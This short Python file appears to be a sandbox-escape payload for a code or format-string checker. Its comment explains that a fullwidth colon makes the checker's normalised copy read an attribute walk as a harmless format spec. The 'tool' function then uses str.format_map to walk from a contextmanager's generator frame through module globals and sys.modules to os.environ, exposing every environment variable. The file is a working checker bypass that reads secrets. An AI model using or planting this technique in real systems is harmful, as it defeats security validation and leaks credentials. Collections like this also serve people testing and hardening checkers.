# family: introspect
# Escape: contextlib.contextmanager objects keep the generator as the public attribute .gen; in "{c：.gen.gi_frame
# ...}" the fullwidth colon becomes ":" in the checker's copy, turning the walk into an unchecked format spec.
# Python walks manager -> generator -> frame -> module globals -> calendar.sys.modules -> os.environ.
import calendar
import contextlib


@contextlib.contextmanager
def month(year: int, number: int):
    yield calendar.monthrange(year, number)


def tool(year: int = 2024) -> str:
    return "{c：.gen.gi_frame.f_globals[calendar].sys.modules[os].environ}".format_map({"c：": month(year, 1)})
